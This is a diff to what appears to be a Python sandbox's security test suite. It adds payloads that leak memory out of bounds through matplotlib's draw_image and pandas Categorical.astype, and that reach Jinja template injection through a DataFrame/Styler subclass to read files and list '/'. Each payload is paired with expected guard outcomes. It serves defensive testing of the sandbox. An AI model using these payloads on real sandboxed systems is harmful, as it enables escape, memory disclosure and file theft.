@@ -1926,6 +1926,116 @@ PAYLOADS = [
             spray = [bytes(bytearray(b"x" * n)) for n in range(48, 64) for k in range(8)]
             return [len(keep), bytes(keep[0])[:6].hex()]
         """, on={OK}, off={CRASH, OK, EXCEPTION}),
+    # review rev9: library code run on an object the code chooses, and the
+    # caller-frame checks (_library_only, _LibraryOnly) passed by a library
+    # frame in between
+    Payload("mpl-draw-image-through-pandas-apply", """
+        import numpy as np
+        import pandas as pd
+        import matplotlib.pyplot as plt
+        def main():
+            fig = plt.figure(figsize=(1, 1), dpi=100)
+            r = fig.canvas.get_renderer()
+            img = np.zeros((40, 40, 1), np.uint8)      # 1600 bytes; draw_image reads 6400
+            pd.Series([r.new_gc()], dtype=object).apply(r.draw_image, args=(0.0, 0.0, img))
+            leaked = np.asarray(r.buffer_rgba())[60:100, 0:40].reshape(-1, 4)
+            return bytes(leaked[:, :3].reshape(-1).tolist()).hex()
+        """, on={GUARD}, off={OK, CRASH, EXCEPTION, GUARD}),
+    Payload("mpl-draw-image-through-pandas-crash", """
+        import numpy as np
+        import pandas as pd
+        import matplotlib.pyplot as plt
+        def main():
+            r = plt.figure(figsize=(1, 1), dpi=100).canvas.get_renderer()
+            img = np.zeros((2, 4000000, 1), np.uint8)   # row 1 is read 16 MB in
+            pd.Series([r.new_gc()], dtype=object).apply(r.draw_image, args=(0.0, 0.0, img))
+        """, on={GUARD}, off={OK, CRASH, EXCEPTION, MEMORY, GUARD}),
+    Payload("mpl-draw-image-through-partial-map", """
+        import functools
+        import numpy as np
+        import pandas as pd
+        import matplotlib.pyplot as plt
+        def main():
+            r = plt.figure(figsize=(1, 1), dpi=100).canvas.get_renderer()
+            draw = functools.partial(r.draw_image, r.new_gc(), 0.0, 0.0)
+            pd.Series([np.zeros((2, 4000000, 1), np.uint8)], dtype=object).map(draw)
+        """, on={GUARD}, off={OK, CRASH, EXCEPTION, MEMORY, GUARD}),
+    Payload("styler-environment-through-ndframe-getattr", """
+        import pandas as pd
+        from pandas.io.formats.style import Styler
+        class B(pd.DataFrame, Styler):
+            pass
+        def main(canary_tmp):
+            # _LibraryOnly refuses the code's read; Python then calls
+            # NDFrame.__getattr__, whose object.__getattribute__ is pandas' frame
+            env = B({"x": [1]}).env
+            return env.from_string(
+                "{{ lipsum.__globals__.__builtins__.open(path).read() }}").render(path=canary_tmp)
+        """, on={GUARD}, off={DENIED, EXCEPTION}),
+    Payload("jinja-template-class-from-styler", """
+        import pandas as pd
+        from pandas.io.formats.style import Styler
+        class B(pd.DataFrame, Styler):
+            pass
+        def main(canary_tmp):
+            template = type(B({"x": [1]}).template_html)
+            return template("{{ lipsum.__globals__.os.listdir('/') }}").render()
+        """, on={GUARD}, off={DENIED, EXCEPTION}),
+    Payload("pandas-unbound-method-on-own-object", """
+        import numpy as np
+        import pandas as pd
+        class Fake:
+            def __init__(self):
+                self._codes = np.arange(4, 64, dtype=np.intp)
+                self.codes = self._codes
+                self.categories = pd.Index(np.arange(4, dtype=np.int64))
+                self.dtype = np.dtype("O")
+            def isna(self):
+                return np.zeros(60, bool)
+        def main():
+            # take_nd reads 60 words past a 4-word array: heap pointers
+            return [hex(int(v) & (2**64 - 1)) for v in pd.Categorical.astype(Fake(), "int64")]
+        """, on={GUARD}, off={OK, CRASH, EXCEPTION}),
+    Payload("pandas-unbound-method-crash", """
+        import numpy as np
+        import pandas as pd
+        class Fake:
+            def __init__(self):
+                self._codes = np.array([1 << 40], dtype=np.intp)
+                self.codes = self._codes
+                self.categories = pd.Index(np.arange(4, dtype=np.int64))
+                self.dtype = np.dtype("O")
+            def isna(self):
+                return np.zeros(1, bool)
+        def main():
+            return len(pd.Categorical.astype(Fake(), "int64"))
+        """, on={GUARD}, off={CRASH, EXCEPTION}),
+    Payload("pandas-unbound-method-via-methodcaller", """
+        import operator
+        import numpy as np
+        import pandas as pd
+        class Fake:
+            def __init__(self):
+                self._codes = np.array([1 << 40], dtype=np.intp)
+                self.codes = self._codes
+                self.categories = pd.Index(np.arange(4, dtype=np.int64))
+                self.dtype = np.dtype("O")
+            def isna(self):
+                return np.zeros(1, bool)
+        def main():
+            return len(operator.methodcaller("astype", Fake(), "int64")(pd.Categorical))
+        """, on={GUARD}, off={CRASH, EXCEPTION}),
+    Payload("pandas-subclass-public-override", """
+        import numpy as np
+        import pandas as pd
+        class Fake(pd.Categorical):
+            @property
+            def categories(self):          # 4 categories for codes up to 63
+                return pd.Index(np.arange(4, dtype=np.int64))
+        def main():
+            out = Fake(pd.Categorical(np.arange(64))).astype("int64")
+            return [hex(int(v) & (2**64 - 1)) for v in out]
+        """, on={GUARD}, off={OK, CRASH, EXCEPTION}),
     Payload("format-method-in-fullwidth", """
         def main():
             f = "{0.__cl" + "ass__.__ba" + "se__}"
